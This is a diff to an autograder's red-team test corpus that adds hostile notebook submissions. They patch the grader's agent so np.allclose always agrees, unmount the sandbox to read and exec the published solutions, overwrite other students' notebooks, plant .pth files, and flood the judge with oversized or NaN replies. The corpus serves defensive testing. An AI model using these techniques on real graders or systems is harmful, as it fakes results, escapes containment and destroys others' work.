@@ -41,7 +41,7 @@ import numpy as np
 from .notebooks import fill_stubs, solution_ids, solution_text, submission, template_text, write
 from .processes import new_token
 
-__all__ = ["Context", "Exploit", "EXPLOITS", "exploits", "write_corpus"]
+__all__ = ["Context", "Exploit", "EXPLOITS", "exploits", "write_corpus", "corpus_path"]
 
 DENSE, KL, ADAM = "01_dense_layer", "03_kl_divergence", "04_adam"
 
@@ -71,17 +71,26 @@ class Exploit:
     build: Callable[[Context], Any]
     expect: str = "empty"
     killer: bool = False
+    sandbox: bool = False  # defeated by the bubblewrap sandbox only (its tests need it)
 
 
 EXPLOITS: dict[str, Exploit] = {}
 
 
 def _exploit(
-    assignment: str, category: str, summary: str, *, expect: str = "empty", killer: bool = False
+    assignment: str,
+    category: str,
+    summary: str,
+    *,
+    expect: str = "empty",
+    killer: bool = False,
+    sandbox: bool = False,
 ) -> Callable[[Callable[[Context], Any]], Callable[[Context], Any]]:
     def register(build: Callable[[Context], Any]) -> Callable[[Context], Any]:
         name = build.__name__
-        EXPLOITS[name] = Exploit(name, assignment, category, summary, build, expect, killer)
+        EXPLOITS[name] = Exploit(
+            name, assignment, category, summary, build, expect, killer, sandbox
+        )
         return build
 
     return register
@@ -93,9 +102,15 @@ def exploits() -> list[Exploit]:
 
 
 def write_corpus(folder: str | Path, context: Context) -> dict[str, Path]:
-    """Write every hostile submission as ``folder/NAME.ipynb``; their paths by name."""
+    """Write every hostile submission as ``folder/NAME/ASSIGNMENT.ipynb`` (a student's folder,
+    the notebook named as released); their paths by name."""
     folder = Path(folder)
-    return {e.name: write(e.build(context), folder / f"{e.name}.ipynb") for e in exploits()}
+    return {e.name: write(e.build(context), corpus_path(folder, e)) for e in exploits()}
+
+
+def corpus_path(folder: Path, exploit: Exploit) -> Path:
+    """Where :func:`write_corpus` puts ``exploit``'s notebook in ``folder``."""
+    return folder / exploit.name / f"{exploit.assignment}.ipynb"
 
 
 def _stubs(assignment: str, grade_id: str, *bodies: str) -> str:
@@ -1090,6 +1105,329 @@ def fork_storm_adam(context: Context) -> Any:
     return submission(ADAM, {"adam": _join(code, template_text(ADAM, "adam"))})
 
 
+# Round two: the namespace, the sandbox and the judge's limits ------------------------------
+
+# Student code replaces the kernel's agent: the answer to the judge's "which names are yours"
+# request gains np (with an allclose that always agrees) and the judge's own helpers.
+_AGENT_PATCH = """
+import types
+
+import vae_numpy.assignments._agent as _agent_module
+
+_real_answer = _agent_module._Agent.answer
+
+
+def _agree(*args, **kwargs):
+    return True
+
+
+def _no_problem(*args, **kwargs):
+    return None
+
+
+_fake_np = types.SimpleNamespace(
+    allclose=_agree, array_equal=_agree, isclose=_agree, all=_agree, any=_agree
+)
+_forged = {
+    "np": _fake_np,
+    "numpy": _fake_np,
+    "check_layer": _no_problem,
+    "gradient_problem": _no_problem,
+    "relative_error": lambda *a, **k: (0.0, (0,)),
+    "numerical_gradient": _no_problem,
+    "kl_by_quadrature": _no_problem,
+    "SGD": _no_problem,
+    "rosenbrock": _no_problem,
+    "TEST_SEED": 0,
+    "_internal": _no_problem,
+    "print": _no_problem,
+}
+
+
+def _answer(self, request):
+    result = _real_answer(self, request)
+    if request.get("op") == "globals" and isinstance(result, dict):
+        result["d"] += [[name, self.out(value)] for name, value in _forged.items()]
+    return result
+
+
+_agent_module._Agent.answer = _answer
+"""
+
+
+def _agent_patched(assignment: str, gid: str, body: str) -> Any:
+    return submission(assignment, {gid: _join(_AGENT_PATCH, body)})
+
+
+@_exploit(
+    DENSE,
+    "agent patch",
+    "the kernel's agent adds np (allclose always true), check_layer and gradient_problem to the "
+    "names it sends back; Dense computes nothing",
+)
+def agent_names_dense(context: Context) -> Any:
+    dense = _stubs(DENSE, "dense_layer", "return x", "return grad_y")
+    return submission(DENSE, {"dense_layer": _join(_AGENT_PATCH, dense)})
+
+
+@_exploit(
+    KL,
+    "agent patch",
+    "the kernel's agent adds np, kl_by_quadrature and TEST_SEED to its names; the KL is 0",
+)
+def agent_names_kl(context: Context) -> Any:
+    code = """
+    def kl_normal(mu, sigma, m=0.0, s=1.0):
+        return np.zeros(np.broadcast(mu, sigma, m, s).shape)
+    """
+    return _agent_patched(KL, "kl_closed_form", code)
+
+
+@_exploit(
+    ADAM,
+    "agent patch",
+    "the kernel's agent adds np, SGD and rosenbrock to its names and answers 'globals' with "
+    "every request; Adam.step does nothing",
+)
+def agent_names_adam(context: Context) -> Any:
+    return submission(ADAM, {"adam": _join(_AGENT_PATCH, template_text(ADAM, "adam"))})
+
+
+# Finds the grader's checkout from inside the kernel: pip's editable-install finder names it.
+_FIND_CHECKOUT = """
+import glob
+import json
+import os
+import re
+import site
+import subprocess
+import sys
+from pathlib import Path
+
+
+def _checkouts():
+    folders = [*site.getsitepackages(), site.getusersitepackages(), *sys.path]
+    for folder in folders:
+        for finder in glob.glob(os.path.join(folder, "__editable__*vae_numpy*")):
+            try:
+                text = Path(finder).read_text()
+            except OSError:
+                continue
+            for path in re.findall(r"['\\"](/[^'\\"]+)/vae_numpy['\\"]", text):
+                yield Path(path)
+        for pth in glob.glob(os.path.join(folder, "*.pth")):
+            try:
+                yield from (Path(line.strip()) for line in Path(pth).read_text().splitlines())
+            except OSError:
+                continue
+    for entry in [os.getcwd(), os.environ.get("PWD", ""), "/work", "/root", "/home", "/srv"]:
+        if entry:
+            yield Path(entry)
+            yield from Path(entry).glob("*")
+"""
+
+
+@_exploit(
+    KL,
+    "sandbox escape",
+    "unmounts the folders that cover the sources (as root in its namespace), then reads the "
+    "published solutions from the checkout, its .git (git show) or build/ and execs them",
+    sandbox=True,
+)
+def escape_checkout_kl(context: Context) -> Any:
+    code = (
+        _FIND_CHECKOUT
+        + """
+
+for _mount in Path("/proc/self/mounts").read_text().splitlines()[::-1]:
+    subprocess.run(["umount", "-l", _mount.split()[1]], capture_output=True)
+
+
+def _solutions():
+    relative = "notebooks/assignments/source/03_kl_divergence.ipynb"
+    for root in _checkouts():
+        texts = []
+        for path in (root / relative, root / "build" / "lib" / "vae_numpy" / "_notebooks" / relative):
+            try:
+                texts.append(path.read_text())
+            except OSError:
+                pass
+        try:
+            shown = subprocess.run(
+                ["git", "-C", str(root), "show", f"HEAD:{relative}"], capture_output=True, text=True
+            )
+            texts.append(shown.stdout)
+        except OSError:
+            pass
+        for text in texts:
+            try:
+                cells = json.loads(text)["cells"]
+            except ValueError:
+                continue
+            return ["".join(c["source"]) for c in cells if c["metadata"].get("nbgrader", {}).get("solution")]
+    return []
+
+
+for _code in _solutions():
+    exec(_code.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
+"""
+    )
+    return submission(KL, {"kl_closed_form": code})
+
+
+@_exploit(
+    DENSE,
+    "sabotage",
+    "walks the file system and overwrites every other 01 notebook it can write with the "
+    "student copy (another student's 14 would become 0)",
+    sandbox=True,
+)
+def sabotage_others_dense(context: Context) -> Any:
+    code = """
+import json
+import os
+
+_blank = None
+for _top in ["/tmp", "/work", "/root", "/home", "/srv", "/var"]:
+    for _folder, _dirs, _files in os.walk(_top):
+        _dirs[:] = [d for d in _dirs if not d.startswith(".") and d not in ("site-packages", "proc")]
+        for _file in _files:
+            if not _file.endswith(".ipynb"):
+                continue
+            _path = os.path.join(_folder, _file)
+            try:
+                with open(_path) as _f:
+                    _nb = json.load(_f)
+                for _cell in _nb["cells"]:
+                    if _cell["metadata"].get("nbgrader", {}).get("grade_id") == "dense_layer":
+                        _cell["source"] = "class Dense:\\n    pass\\n"
+                with open(_path, "w") as _f:
+                    json.dump(_nb, _f)
+            except (OSError, ValueError, KeyError, TypeError):
+                pass
+"""
+    dense = _stubs(DENSE, "dense_layer", "return x", "return grad_y")
+    return submission(DENSE, {"dense_layer": _join(code, dense)})
+
+
+@_exploit(
+    ADAM,
+    "planted .pth",
+    "writes a .pth file into every site-packages folder (it would run in every later grading "
+    "process) and a marker into the grader's home, the checkout and /tmp",
+    sandbox=True,
+)
+def plant_pth_adam(context: Context) -> Any:
+    code = (
+        _FIND_CHECKOUT
+        + """
+
+_marker = "@TOKEN@"
+for _folder in {*site.getsitepackages(), site.getusersitepackages(), *sys.path}:
+    try:
+        # harmless if it ever lands: a comment line, which site.py skips
+        Path(_folder, f"{_marker}.pth").write_text("# planted by the red-team corpus\\n")
+    except OSError:
+        pass
+for _folder in [*_checkouts(), Path.home(), Path("/tmp"), Path("/root"), Path(sys.prefix)]:
+    try:
+        Path(_folder, f"{_marker}.planted").write_text("planted\\n")
+    except OSError:
+        pass
+"""
+    )
+    return submission(
+        ADAM, {"adam": _join(_with_token(code, context), template_text(ADAM, "adam"))}
+    )
+
+
+# Student code replaces how the kernel's agent sends frames: raw bytes the judge must refuse
+# before it builds anything from them.
+def _raw_reply(payload: str) -> str:
+    return f"""
+import struct
+
+import vae_numpy.assignments._agent as _agent_module
+
+_real_send = _agent_module.send_frame
+
+
+def _send(sock, message):
+    if isinstance(message, dict) and ("ok" in message or "err" in message) and "sync" in message:
+        data = {payload}
+        sock.sendall(struct.pack(">Q", len(data)) + data)
+    else:
+        _real_send(sock, message)
+
+
+_agent_module.send_frame = _send
+"""
+
+
+_KL_ZERO = """
+def kl_normal(mu, sigma, m=0.0, s=1.0):
+    return np.zeros(np.broadcast(mu, sigma, m, s).shape)
+"""
+
+
+@_exploit(
+    KL,
+    "judge limits",
+    "every reply is a list nested 200,000 deep (the judge's JSON parser would recurse)",
+)
+def deep_reply_kl(context: Context) -> Any:
+    code = _raw_reply('b\'{"sync":[],"ok":\' + b"[" * 200_000 + b"]" * 200_000 + b"}"')
+    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})
+
+
+@_exploit(
+    KL,
+    "judge limits",
+    "every reply is 30 MB of tiny values (millions of Python objects if parsed)",
+)
+def flood_reply_kl(context: Context) -> Any:
+    code = _raw_reply('b\'{"sync":[],"ok":[\' + b"0," * 15_000_000 + b"0]}"')
+    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})
+
+
+@_exploit(KL, "judge limits", "every reply is a raw NaN (JSON's NaN literal)")
+def raw_nan_reply_kl(context: Context) -> Any:
+    code = _raw_reply('b\'{"sync":[],"ok":NaN}\'')
+    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})
+
+
+@_exploit(
+    KL,
+    "judge limits",
+    "every reply is an array of shape (100000, 100000) with no data (80 GB if allocated)",
+)
+def huge_shape_reply_kl(context: Context) -> Any:
+    code = _raw_reply('b\'{"sync":[],"ok":{"nd":["float64",[100000,100000],"AAAA"],"id":999}}\'')
+    return submission(KL, {"kl_closed_form": _join(code, _KL_ZERO)})
+
+
+@_exploit(
+    DENSE,
+    "judge limits",
+    "forward returns an object whose shape is (30000, 30000): a test that builds an array of "
+    "that shape in the judge would allocate 7 GB",
+)
+def huge_shape_object_dense(context: Context) -> Any:
+    forward = """
+    class _Big:
+        shape = (30000, 30000)
+        ndim = 2
+        dtype = np.float64
+
+        def __len__(self):
+            return 30000
+
+    return _Big()
+    """
+    dense = _stubs(DENSE, "dense_layer", forward, "return np.ones((30000, 30000))[:0]")
+    return submission(DENSE, {"dense_layer": dense})
+
+
 def _iter_names(values: list[str]) -> Iterator[Exploit]:
     for name in values:
         if name not in EXPLOITS:
@@ -1100,14 +1438,14 @@ def _iter_names(values: list[str]) -> Iterator[Exploit]:
 def main(argv: list[str] | None = None) -> int:
     """``python -m tests.redteam.corpus DIR [NAME ...]``: write the submissions into DIR."""
     parser = argparse.ArgumentParser(prog="python -m tests.redteam.corpus", description=__doc__)
-    parser.add_argument("folder", help="where to write NAME.ipynb")
+    parser.add_argument("folder", help="where to write NAME/ASSIGNMENT.ipynb")
     parser.add_argument("names", nargs="*", help="exploits to write (default: all)")
     parser.add_argument("--token", default=None, help="process-name token (default: random)")
     args = parser.parse_args(argv)
     context = Context(args.token or new_token())
     chosen = list(_iter_names(args.names)) if args.names else exploits()
     for e in chosen:
-        print(write(e.build(context), Path(args.folder) / f"{e.name}.ipynb"))
+        print(write(e.build(context), corpus_path(Path(args.folder), e)))
     print(f"process-name token: {context.token}")
     return 0
 
